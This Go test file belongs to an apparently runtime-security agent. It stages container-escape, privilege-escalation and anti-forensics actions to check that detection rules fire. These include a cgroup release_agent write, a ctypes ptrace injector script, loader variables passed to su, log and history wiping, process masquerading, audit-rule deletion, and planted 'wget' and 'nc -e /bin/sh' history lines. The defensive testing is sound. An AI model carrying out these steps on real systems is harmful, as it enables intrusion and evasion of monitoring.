package rules_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/vigilsec/vigil/internal/testutil"
)

// runContainer creates a container of the busybox image named name with
// extra docker create arguments, runs script as its entrypoint to the
// end, removes it, and returns it.
func runContainer(t *testing.T, name string, args []string, script string) *workload {
	t.Helper()
	testutil.RequireDocker(t)
	create := append(append([]string{"create", "--name", name}, args...), image, "sh", "-c", script)
	out, err := exec.Command(docker, create...).CombinedOutput()
	if err != nil {
		t.Fatalf("docker create: %v: %s", err, out)
	}
	w := &workload{id: strings.TrimSpace(string(out)), name: name}
	testutil.RunOnCleanup(t, docker, "rm", "-f", w.id)
	mustRun(t, exec.Command(docker, "start", "-a", w.id))
	return w
}

// ptraceInjector is the first step of a process-injection script: attach
// to the target with ptrace through libc and read a word of its stack,
// as an injector does before it writes code there. (gdb and strace are
// allow-listed by the rule as debuggers; injectors are scripts.)
const ptraceInjector = `import ctypes, os, sys
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
    sys.exit("attach: " + os.strerror(ctypes.get_errno()))
os.waitpid(pid, 0)
with open("/proc/%d/maps" % pid) as maps:
    stack = int(next(l for l in maps if "[stack]" in l).split("-")[0], 16)
word = libc.ptrace(PTRACE_PEEKDATA, pid, stack, None)
libc.ptrace(PTRACE_DETACH, pid, None, None)
print("attached to %d, read %#x at %#x" % (pid, word & (1 << 64) - 1, stack))
`

var escalationAttacks = []attack{
	{"Cgroup release agent written", "Critical", "",
		"busybox sh in a container writing release_agent of a cgroup v1 hierarchy mounted into it",
		func(t *testing.T, ag *agent, m string) result {
			// A fresh named hierarchy (no controller), as the escape mounts
			// one: the machine's own hierarchies are left alone.
			dir := filepath.Join(workDir(t), "cgroup-"+m)
			if err := os.Mkdir(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := unix.Mount("cgroup", dir, "cgroup", 0, "none,name=vge2e"+m); err != nil {
				t.Fatalf("mounting a cgroup v1 hierarchy: %v", err)
			}
			t.Cleanup(func() {
				if err := unix.Unmount(dir, unix.MNT_DETACH); err != nil {
					t.Logf("cleanup: unmount %s: %v", dir, err)
				}
			})
			mnt := "/mnt/" + m
			w := runContainer(t, "vge2e-ra-"+m, []string{"--cap-add", "SYS_ADMIN", "--security-opt", "apparmor=unconfined",
				"-v", dir + ":" + mnt}, "echo 1 > "+mnt+"/notify_on_release && echo /bin/true > "+mnt+"/release_agent")
			if agent, _ := os.ReadFile(filepath.Join(dir, "release_agent")); strings.TrimSpace(string(agent)) != "/bin/true" {
				t.Errorf("release_agent is %q after the attack", agent)
			}
			return result{match: "file=" + mnt + "/release_agent ", name: "sh", exe: busybox, in: w,
				fields: map[string]string{"fd.name": mnt + "/release_agent"}}
		}},
	{"File system mounted in a container", "Warning", "", "busybox mount, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "mkdir -p /mnt/"+m+"; /usr/bin/mount -t tmpfs none /mnt/"+m)
			return result{match: m, name: "mount", exe: busybox, in: w,
				fields: map[string]string{"evt.arg.dir": "/mnt/" + m, "evt.arg.type": "tmpfs"}}
		}},
	{"Namespace or debugging tool run in a container", "Warning", "", "busybox nsenter, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "/usr/bin/nsenter -t 1 -m true "+m)
			return result{match: m, name: "nsenter", exe: busybox, in: w}
		}},
	{"Namespace changed in a container", "Warning", "", "busybox unshare -m, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "/usr/bin/unshare -m sh -c 'true "+m+"'")
			return result{match: m, name: "unshare", exe: busybox, in: w, fields: map[string]string{"evt.type": "unshare"}}
		}},
	{"Container started with administrative privileges", "Warning", "", "docker run --cap-add SYS_ADMIN",
		func(t *testing.T, ag *agent, m string) result {
			w := runContainer(t, "vge2e-caps-"+m, []string{"--cap-add", "SYS_ADMIN"}, "true "+m)
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"container.privileged": "false"},
				check: func(t *testing.T, got *wireAlert) {
					if caps := got.field("thread.cap_effective"); !strings.Contains(caps, "CAP_SYS_ADMIN") {
						t.Errorf("caps %s lack CAP_SYS_ADMIN", caps)
					}
				}}
		}},
	{"Container started with administrative privileges", "Warning", "runtime reports it privileged",
		"docker run of a container the engine reports Privileged (through the suite's Engine API proxy; --privileged cannot start here), without CAP_SYS_ADMIN",
		func(t *testing.T, ag *agent, m string) result {
			name := "vge2e-priv-" + m
			proxy := startDockerProxy(t)
			proxy.reportPrivileged(name)
			w := runContainer(t, name, nil, "true "+m)
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"container.privileged": "true"},
				check: func(t *testing.T, got *wireAlert) {
					// Only the privileged flag can have matched.
					if caps := got.field("thread.cap_effective"); strings.Contains(caps, "CAP_SYS_ADMIN") {
						t.Errorf("caps %s include CAP_SYS_ADMIN", caps)
					}
					if proxy.rewritten(name) == 0 {
						t.Error("the agent never inspected the container through the proxy")
					}
				}}
		}},
	{"Non-root process set its user to root", "Warning", "", "exploit stage (the suite's helper, as nobody): setuid(0)",
		func(t *testing.T, ag *agent, m string) result {
			cmd, bin := helper(t, 65534, "setuid0", "")
			pid := run(t, cmd)
			return result{match: pidOf(pid), pid: pid, name: "e2e-helper", exe: bin, user: "nobody",
				fields: map[string]string{"evt.type": "setuid"}}
		}},
	{"Unprivileged userfaultfd created", "Warning", "", "exploit stage (the suite's helper, as nobody): userfaultfd()",
		func(t *testing.T, ag *agent, m string) result {
			cmd, bin := helper(t, 65534, "userfaultfd", "")
			pid := run(t, cmd)
			return result{match: pidOf(pid), pid: pid, name: "e2e-helper", exe: bin, user: "nobody"}
		}},
	{"Loader variables passed to a setuid program", "Warning", "", "su run by a user's shell with GLIBC_TUNABLES and LD_PRELOAD set",
		func(t *testing.T, ag *agent, m string) result {
			// One variable inherited and one set for the command, as exploit
			// instructions go: nothing of it is in su's argv, and the marker
			// is expanded by the shell so that only su's environment (not the
			// shell's command line) carries it.
			su, exe := hostTool(t, "su")
			cmd := exec.Command("/bin/sh", "-c", "v="+m+"; GLIBC_TUNABLES=glibc.malloc.mxfast=$v "+su+" --help >/dev/null 2>&1; true")
			cmd.Env = []string{"PATH=/usr/bin:/bin", "LD_PRELOAD=/nonexistent/hook.so"}
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
			run(t, cmd)
			return result{match: "GLIBC_TUNABLES=glibc.malloc.mxfast=" + m, name: "su", exe: exe}
		}},
	{"Kernel module loaded", "Warning", "", "insmod (kmod) of a file posing as a rootkit module",
		func(t *testing.T, ag *agent, m string) result {
			// insmod tries finit_module, and init_module when the kernel
			// refuses it (ENOSYS here): each call raises the rule, and the
			// test follows the first.
			insmod, exe := hostTool(t, "insmod")
			ko := filepath.Join(t.TempDir(), m+".ko")
			plant(t, ko, "not a module")
			pid := run(t, exec.Command(insmod, ko))
			return result{match: m, narrow: "call=finit_module ", pid: pid, name: "insmod", exe: exe,
				fields: map[string]string{"evt.type": "finit_module"}}
		}},
	{"BPF program loaded by an unexpected process", "Warning", "", "BPF loader (the suite's helper, cilium/ebpf): BPF_PROG_LOAD of a socket filter",
		func(t *testing.T, ag *agent, m string) result {
			cmd, bin := helper(t, 0, "bpf_load", "")
			pid := run(t, cmd)
			return result{match: pidOf(pid), pid: pid, name: filepath.Base(bin), exe: realpath(t, bin),
				fields: map[string]string{"evt.arg.cmd": "BPF_PROG_LOAD"}}
		}},
	{"Process attached to another with ptrace", "Warning", "", "python3 injector script (ctypes ptrace ATTACH, PEEKDATA, DETACH)",
		func(t *testing.T, ag *agent, m string) result {
			python, exe := hostTool(t, "python3")
			victim := exec.Command(python, "-c", "import time; time.sleep(60)", m+"-victim")
			if err := victim.Start(); err != nil {
				t.Fatal(err)
			}
			defer testutil.KillAndWait(victim)
			// Events of different processes are handled in parallel: the
			// victim's own alert (its inline program) says the agent has
			// handled its exec, so the attack names it.
			if !ag.waitFor("Interpreter running an inline program", m+"-victim", "") {
				t.Fatal("the agent never reported the victim's start")
			}
			script := filepath.Join(workDir(t), "inject-"+m+".py")
			plant(t, script, ptraceInjector)
			pid := run(t, exec.Command(python, script, fmt.Sprint(victim.Process.Pid)))
			return result{match: m, pid: pid, name: "python3", exe: exe, fields: map[string]string{
				"evt.arg.request": "PTRACE_ATTACH", "evt.target.pid": fmt.Sprint(victim.Process.Pid), "evt.target.name": "python3"}}
		}},
	{"Anti-debugging with PTRACE_TRACEME", "Warning", "", "anti-debugging stub (the suite's helper): ptrace(PTRACE_TRACEME)",
		func(t *testing.T, ag *agent, m string) result {
			cmd, bin := helper(t, 0, "traceme", "")
			pid := run(t, cmd)
			return result{match: pidOf(pid), pid: pid, name: filepath.Base(bin), exe: realpath(t, bin),
				fields: map[string]string{"evt.arg.request": "PTRACE_TRACEME"}}
		}},
}

var evasionAttacks = []attack{
	{"Log file cleared", "Warning", "", "busybox sh truncating a log (: > FILE), in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "mkdir -p /var/log; echo 'sshd: accepted' >> /var/log/"+m+".log; : > /var/log/"+m+".log")
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"fd.name": "/var/log/" + m + ".log"}}
		}},
	{"Shell history truncated", "Warning", "", "cp /dev/null ~/.bash_history",
		func(t *testing.T, ag *agent, m string) result {
			h := home(t, m, map[string]string{".bash_history": "wget http://x/y\n"})
			cp, exe := hostTool(t, "cp")
			pid := run(t, exec.Command(cp, "/dev/null", h+"/.bash_history"))
			return result{match: m, pid: pid, name: "cp", exe: exe, fields: map[string]string{"fd.name": h + "/.bash_history"}}
		}},
	{"Shell history deleted", "Warning", "", "rm -f ~/.zsh_history",
		func(t *testing.T, ag *agent, m string) result {
			h := home(t, m, map[string]string{".zsh_history": "nc -e /bin/sh x 1\n"})
			rm, exe := hostTool(t, "rm")
			pid := run(t, exec.Command(rm, "-f", h+"/.zsh_history"))
			return result{match: m, pid: pid, name: "rm", exe: exe, fields: map[string]string{"evt.type": "unlinkat"}}
		}},
	{"Hidden file created in a system directory", "Warning", "", "busybox sh creating /usr/lib/.NAME, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "mkdir -p /usr/lib; echo x > /usr/lib/."+m)
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"fd.name": "/usr/lib/." + m}}
		}},
	{"Well-known program run from an unusual place", "Warning", "", "coreutils sleep copied to /tmp as sshd and run",
		func(t *testing.T, ag *agent, m string) result {
			bin := testutil.CopyExecutable(t, "/bin/sleep", filepath.Join(t.TempDir(), "sshd"))
			return result{match: bin, pid: run(t, exec.Command(bin, "0")), name: "sshd", exe: realpath(t, bin)}
		}},
	{"Process disguised as a kernel thread", "Warning", "", "bash exec -a '[kworker/0:N]' sleep",
		func(t *testing.T, ag *agent, m string) result {
			_, exe := hostTool(t, "sleep")
			pid := run(t, exec.Command("bash", "-c", "exec -a '[kworker/0:"+m+"]' sleep 0"))
			return result{match: m, pid: pid, name: "sleep", exe: exe, fields: map[string]string{"proc.exe": "[kworker/0:" + m + "]"}}
		}},
	{"Audit logging disabled", "Warning", "", "auditctl (auditd) deleting audit rules (-D)",
		func(t *testing.T, ag *agent, m string) result { return auditAttack(t, m) }},
}

// auditAttack adds an audit watch and deletes it with auditctl -D, as an
// intruder wipes the audit rules. It never enables auditing (once enabled,
// every new task stays on the slow syscall path), and leaves the rules as
// they were: the deletion names the key of the one rule it added.
func auditAttack(t *testing.T, m string) result {
	auditctl, exe := hostTool(t, "auditctl")
	out, err := exec.Command(auditctl, "-s").CombinedOutput()
	if err != nil {
		t.Fatalf("auditctl -s: %v: %s", err, out)
	}
	if strings.Contains(string(out), "enabled 2") {
		t.Fatal("the audit configuration is locked (enabled 2): rules cannot change until reboot")
	}
	watched := filepath.Join(workDir(t), "audited-"+m)
	plant(t, watched, "")
	if out, err := exec.Command(auditctl, "-w", watched, "-p", "wa", "-k", m).CombinedOutput(); err != nil {
		t.Fatalf("auditctl -w: %v: %s", err, out)
	}
	testutil.RunOnCleanup(t, auditctl, "-W", watched, "-p", "wa", "-k", m)
	pid := run(t, exec.Command(auditctl, "-D", "-k", m))
	if out, _ := exec.Command(auditctl, "-l").CombinedOutput(); strings.Contains(string(out), m) {
		t.Errorf("the audit rule is still there after auditctl -D:\n%s", out)
	}
	return result{match: m, pid: pid, name: "auditctl", exe: exe}
}
